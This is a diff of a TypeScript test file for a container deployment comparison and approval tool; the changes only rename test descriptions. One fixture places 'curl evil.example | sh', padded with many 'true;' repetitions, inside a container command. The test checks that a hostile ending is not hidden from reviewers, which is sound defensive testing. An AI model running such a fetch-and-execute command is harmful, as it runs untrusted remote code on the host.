@@ -65,7 +65,7 @@ const termsOf = (spec: GroupSpec, standing: CurrentState): DeployTerms => ({
 
 const SEEDS = Array.from({ length: 40 }, (_none, seed) => seed + 1);
 
-it('what stands as it was asked for has no changes, whatever was asked and in whichever namespace', () => {
+it('a group with the requested settings has no changes, in either namespace', () => {
   for (const seed of SEEDS) {
     const spec = specOf(documentOf(seed));
     for (const namespace of ['Vendor', 'Microsoft'] as const) {
@@ -74,7 +74,7 @@ it('what stands as it was asked for has no changes, whatever was asked and in wh
   }
 });
 
-it('what runs, opened as a document to be changed, changes nothing once its secrets are named', () => {
+it('a running group as a document has no changes once its secrets are named', () => {
   for (const seed of SEEDS) {
     const group = shownAs(specOf(documentOf(seed)));
     const named = documentFor(group).replaceAll('"secretRef": ""', '"secretRef": "registry-pull"');
@@ -82,7 +82,7 @@ it('what runs, opened as a document to be changed, changes nothing once its secr
   }
 });
 
-it('every secret that the vendor keeps to itself is asked for again, by whatever it was called', () => {
+it('a running group as a document asks for the name of every secret', () => {
   const places = (spec: GroupSpec): string[] =>
     referencesIn(spec).map(([path]) => path.replace(/(?<=\.(?:secret|protectedSettings)\.).*/, '*'));
   for (const seed of SEEDS) {
@@ -93,7 +93,7 @@ it('every secret that the vendor keeps to itself is asked for again, by whatever
   }
 });
 
-describe('what is decided can be read', () => {
+describe('the changes on a card', () => {
   const words = loadTexts().for('en');
   const withCommand = (last: string): GroupSpec =>
     specOf({
@@ -116,13 +116,13 @@ describe('what is decided can be read', () => {
   const after = withCommand(`${harmless}curl evil.example | sh; ${'true; '.repeat(500)}`);
   const standing = compare(after, shownAs(before));
 
-  it('without the secret that an option of a running command names', () => {
+  it('hide the secret in an option of a running command', () => {
     const [only] = before.containers;
     const running = { ...before, containers: only ? [{ ...only, command: ['app', '--password', 'hunter3'] }] : [] };
     expect(JSON.stringify(compare(before, shownAs(running)))).not.toContain('hunter3');
   });
 
-  it('two long values that differ at their end are told apart', () => {
+  it('show where two long values differ', () => {
     expect(standing.changes).toHaveLength(1);
     for (const line of standing.changes) {
       const said = lineWords(line, words);
@@ -131,7 +131,7 @@ describe('what is decided can be read', () => {
     }
   });
 
-  it('to the last letter, on the pages of everything', () => {
+  it('are shown completely on the pages of the full definition', () => {
     const change = { id: 'c', ref: 'R-1', requester: { objectId: 'a', name: 'Ana', language: 'en' } };
     const terms = termsOf(after, standing);
     const pages = [0, 1, 2].map((page) => viewDetails({ ...change, terms }, page, words));
@@ -146,7 +146,7 @@ describe('what is decided can be read', () => {
   });
 });
 
-describe('what runs, as answers of the form', () => {
+describe('a running group as form answers', () => {
   const container = { image: 'a:1', resources: { requests: { cpu: 1, memoryInGB: 1 } } };
   const answers = (more: Json, group: Json = {}) =>
     answersOf(
@@ -163,7 +163,7 @@ describe('what runs, as answers of the form', () => {
     { name: 'DB_PASS', value: 'hunter2' },
   ];
 
-  it('says all of it', () => {
+  it('has all its settings', () => {
     const said = answers(
       { command: ['run', 'first of month'], ports: [{ port: 80 }], environmentVariables: variables },
       { ipAddress },
@@ -180,12 +180,12 @@ describe('what runs, as answers of the form', () => {
     ['a port that is not on the address', { ports: [{ port: 80 }, { port: 9090 }] }, { ipAddress }],
     ['a value of two lines', { environmentVariables: [{ name: 'A', value: 'x\nB=y' }] }, {}],
     ['a value that sounds like the name of a secret', { environmentVariables: [{ name: 'A', value: 'secret:x' }] }, {}],
-  ])('does not say %s wrongly: the document does', (_what, more, group) => {
+  ])('with %s has no answers: its document is used', (_what, more, group) => {
     expect(answers(more, group)).toBeUndefined();
   });
 });
 
-it('each setting that is another one is one line, and what comes or goes whole is one too', () => {
+it('each changed setting is one line, and an item added or removed as a whole is one too', () => {
   const document = (more: Json, properties: Json = {}): Json => ({
     ...more,
     properties: {
@@ -207,7 +207,7 @@ it('each setting that is another one is one line, and what comes or goes whole i
   ]);
 });
 
-describe('before it goes out', () => {
+describe('a deployment before it is sent', () => {
   const spec = specOf(documentOf(3));
   const terms = termsOf(spec, compare(spec, undefined));
   const policy = (containers: string) =>
@@ -239,7 +239,7 @@ describe('before it goes out', () => {
     return { look, settle, calls: () => calls };
   };
 
-  it('looks whether what was approved is still what would change', async () => {
+  it('is compared with the approved changes', async () => {
     expect(await looking(undefined).look({ maybeSent: false })).toEqual({ sameBefore: false });
     await expect(looking(shownAs(spec)).look({ maybeSent: false })).rejects.toMatchObject({ code: 'Container.Moved' });
   });
@@ -255,16 +255,16 @@ describe('before it goes out', () => {
       'images come from elsewhere',
       '{ deny: [], images: { own: elsewhere.example }, places: { ledger: { secrets: [registry-pull, ledger-db-password, ledger-tls] } } }',
     ],
-  ])('is forbidden where by now %s', (_what, text) => {
+  ])('is forbidden where now %s', (_what, text) => {
     expect(deploy.forbids?.(terms, policy(open), 0)).toBeUndefined();
     expect(deploy.forbids?.(terms, policy(text), 0)).toMatchObject({ text: 'containers.failure.forbidden' });
   });
 
-  it('does not compare again after a try that may have arrived', async () => {
+  it('is not compared after an attempt that may have arrived', async () => {
     expect(await looking(shownAs(spec)).look({ maybeSent: true })).toEqual({});
   });
 
-  it('after a lost answer counts as ours what is as asked and was not before', async () => {
+  it('counts as ours after a lost answer if the settings are the requested ones and were not before', async () => {
     const { settle } = looking(shownAs(spec));
     expect(hasSettings(spec, shownAs(spec))).toBe(true);
     expect(await settle({ phase: 'look', seen: { sameBefore: false } })).toMatchObject({ is: 'done' });
